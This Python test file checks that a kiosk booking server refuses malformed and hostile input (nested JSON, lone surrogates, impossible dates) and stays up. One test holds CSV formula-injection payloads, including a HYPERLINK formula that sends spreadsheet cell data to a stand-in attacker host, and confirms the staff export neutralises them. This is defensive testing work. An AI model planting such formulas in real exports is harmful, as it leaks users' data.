"""Hostile input against a live server (issue 13): each case found in the field gets a 4xx or a
per-op refusal, changes nothing it should not, and the server answers /healthz at once afterwards."""
import csv
import io
import json
import time
import uuid
from datetime import timedelta

import pytest
import requests

from kiosk.services import kiosks as kiosk_service
from kiosk.services import office as office_service
from tests.factories import NOW, make_payload
from tests.kiosk_client import Kiosk

pytestmark = [pytest.mark.usefixtures("two_rooms"), pytest.mark.both_backends]


def raw_post(url, body: bytes, **headers):
    return requests.post(url, data=body, headers={"Content-Type": "application/json", **headers}, timeout=10)


def alive(url):
    t0 = time.perf_counter()
    r = requests.get(f"{url}/healthz", timeout=1)
    assert r.status_code == 200 and time.perf_counter() - t0 < 1


def kiosk(office, url, name="entrance"):
    code = kiosk_service.enroll(office.store, NOW, "test", name)["code"]
    return Kiosk.enrolled(url, code, clock=office.now)


def sync_raw(k, ops_json: str):
    """A sync body written by hand: JSON that Python's json module would not make."""
    body = '{"schema": 1, "client_sent_at": "%s", "ops": [%s]}' % (NOW.isoformat(), ops_json)
    return raw_post(f"{k.url}/api/v1/sync", body.encode(), Authorization=f"Bearer {k.token}")


def op_json(k, payload_json: str | None = None, **fields) -> str:
    op = k.op("booking.create", make_payload())
    op.update(fields)
    text = json.dumps(op)
    if payload_json is not None:
        text = text.replace(json.dumps(op["payload"]), payload_json)
    return text


def test_a_lone_surrogate_in_an_op_refuses_that_op_and_applies_the_rest(live_server, office):
    k = kiosk(office, live_server)
    bad = op_json(k, json.dumps(make_payload(name="山田\ud800")))   # json.dumps writes \\ud800: valid JSON
    good_op = k.op("booking.create", make_payload(start="2026-12-04T11:00:00+09:00"))
    r = sync_raw(k, f"{bad}, {json.dumps(good_op)}")
    assert r.status_code == 200
    assert [x["status"] for x in r.json()["results"]] == ["rejected", "applied"]
    alive(live_server)
    with office.store.transaction():
        assert len(office.store.dead_letters()) == 1 and office.store.verify_audit().ok


@pytest.mark.parametrize("field, value", [("seq", "18446744073709551616"), ("seq", "-1")])
def test_a_huge_or_negative_seq_refuses_that_op_only(live_server, office, field, value):
    k = kiosk(office, live_server)
    text = op_json(k)
    bad = text.replace(f'"seq": {json.loads(text)["seq"]}', f'"seq": {value}')
    r = sync_raw(k, bad)
    assert r.status_code == 200 and r.json()["results"][0]["status"] == "rejected"
    alive(live_server)


def test_a_huge_outbox_count_in_the_status_is_ignored_not_fatal(live_server, office):
    k = kiosk(office, live_server)
    body = '{"schema": 1, "client_sent_at": "%s", "ops": [], "status": {"outbox": 18446744073709551616}}' % NOW.isoformat()
    assert raw_post(f"{live_server}/api/v1/sync", body.encode(), Authorization=f"Bearer {k.token}").status_code == 200
    alive(live_server)


def test_a_payload_nested_three_hundred_deep_refuses_that_op(live_server, office):
    k = kiosk(office, live_server)
    deep = "[" * 300 + "]" * 300
    payload = json.dumps(make_payload()).replace('"eligibility": {', f'"eligibility": {{"deep": {deep}, ', 1)
    r = sync_raw(k, op_json(k, payload))
    assert r.status_code == 200 and r.json()["results"][0]["status"] == "rejected"
    alive(live_server)


@pytest.mark.parametrize("levels", [10_000, 50_000])
def test_json_nested_tens_of_thousands_deep_is_a_400(live_server, levels):
    for path in ("/api/v1/bookings", "/api/v1/sync", "/api/v1/kiosk/enroll"):
        r = raw_post(f"{live_server}{path}", ("[" * levels + "]" * levels).encode())
        assert r.status_code in (400, 401, 413), (path, r.status_code)
    alive(live_server)


@pytest.mark.parametrize("change", [
    {"interpreter_language": "\ud800", "needs_interpreter": True},
    {"start": "0001-01-01T10:00:00+14:00"}, {"start": "9999-12-31T10:00:00-12:00"},
    {"language": ["ja"]}, {"language": {"ja": 1}}, {"name": "a" * 10_000},
])
def test_values_no_office_could_mean_are_a_400(live_server, store, change):
    body = json.dumps(make_payload(**change)).encode()         # json.dumps keeps the lone surrogate as \\ud800
    r = raw_post(f"{live_server}/api/v1/bookings", body, **{"Accept-Language": "en"})
    assert 400 <= r.status_code < 500 and r.json()["error"]["message"]
    alive(live_server)
    with store.transaction():
        assert store.booking_days() == []


@pytest.mark.parametrize("created_at", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "yesterday"])
def test_an_op_made_at_an_impossible_time_is_refused(live_server, office, created_at):
    k = kiosk(office, live_server)
    op = k.op("booking.create", make_payload())
    op["created_at"] = created_at
    r = k.post([op])
    assert r.status_code == 200 and r.json()["results"][0]["status"] == "rejected"
    alive(live_server)


def test_a_kiosk_whose_clock_is_decades_ahead_still_syncs(live_server, office):
    k = kiosk(office, live_server)
    op = k.op("booking.create", make_payload())
    r = k.post([op], client_sent_at="2099-12-31T23:59:59+09:00")
    assert r.status_code == 200 and r.json()["results"][0]["status"] == "applied"
    assert r.json()["clock_offset_ms"] is None


def test_another_kiosks_op_id_is_a_new_op_and_never_shows_the_first_kiosks_booking(live_server, office):
    first, second = kiosk(office, live_server, "入口"), kiosk(office, live_server, "二階")
    op = first.op("booking.create", make_payload())
    mine = first.post([op]).json()["results"][0]
    theirs = dict(second.op("booking.create", make_payload(start="2026-12-04T10:00:00+09:00")), op_id=op["op_id"])
    answer = second.post([theirs]).json()["results"][0]
    assert answer["status"] == "applied" and answer["result"]["booking_id"] != mine["result"]["booking_id"]
    assert answer["result"]["join_url"] != mine["result"]["join_url"]


def test_a_backdated_op_without_a_lease_for_a_session_already_over_is_refused_and_never_a_strike(live_server, office, clock):
    k = kiosk(office, live_server)
    k.post([])                                             # enrolled and synced at NOW
    clock.now = NOW + timedelta(days=2, hours=5)           # Dec 3, 14:00: the 10:30 session is over
    op = k.op("booking.create", make_payload(), created_at=NOW)   # "made" before its cut-off
    answer = k.post([op]).json()["results"][0]
    assert answer["status"] == "rejected" and answer["error"]["code"] in ("session_started", "past_cutoff")
    with office.store.transaction():
        assert office.store.booking(op["payload"]["booking_id"]) is None


def test_a_lease_booking_that_arrives_after_its_start_applies_marked_late_and_never_becomes_a_no_show(
        live_server, office, clock, runner):
    k = kiosk(office, live_server)
    k.push()                                               # leases for the next days
    lease = next(iter(k.leases.values()))
    start = lease["start"]
    made = NOW + timedelta(minutes=1)
    op = k.op("booking.create", make_payload(start=start, lease_unit_id=lease["lease_unit_id"]), created_at=made)
    from datetime import datetime
    clock.now = datetime.fromisoformat(start) + timedelta(minutes=20)   # offline until after the session began
    k.clock = lambda: clock.now
    answer = k.post([op]).json()["results"][0]
    assert answer["status"] == "applied"
    with office.store.transaction():
        booking = office.store.booking(op["payload"]["booking_id"])
    assert booking.arrived_late
    clock.now += timedelta(hours=2)
    assert json.loads(runner.invoke(args=["sweep", "--json"]).output) == {"no_show": []}


def _staff_csv_for(client, app, name):
    from tests.integration.test_staff_signin import ORIGIN, register, setup_token
    from tests.webauthn_authenticator import SoftAuthenticator
    register(client, SoftAuthenticator(), setup_token(app.test_cli_runner()))
    return client.get("/staff/export/day.csv?date=2026-12-03", base_url=ORIGIN).get_data(as_text=True)


@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&C3&D3,"予約を確認")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1+1", "|cmd"])
def test_a_name_that_looks_like_a_formula_stays_text_in_the_staff_csv(client, app, name):
    booked = client.post("/api/v1/bookings", json=make_payload(name="山田 花子")).json["booking"]
    with app.extensions["madoguchi"].store.transaction():
        store = app.extensions["madoguchi"].store
        from dataclasses import replace
        store.save_booking(replace(store.booking(booked["booking_id"]), name=name))   # as if typed so
    rows = list(csv.reader(io.StringIO(_staff_csv_for(client, app, name).lstrip("\ufeff"))))
    cell = rows[1][2]
    assert cell == "'" + name and not cell.startswith(("=", "+", "-", "@", "\t", "|"))


def test_the_calendar_file_is_never_cached(client):
    booked = client.post("/api/v1/bookings", json=make_payload()).json["booking"]
    r = client.get(booked["join_url"].split("localhost", 1)[-1].replace("http://", "") + "/calendar.ics")
    assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store"


def test_a_405_names_the_methods_the_address_takes(client):
    r = client.delete("/api/v1/bookings")
    assert r.status_code == 405 and "POST" in r.headers["Allow"]
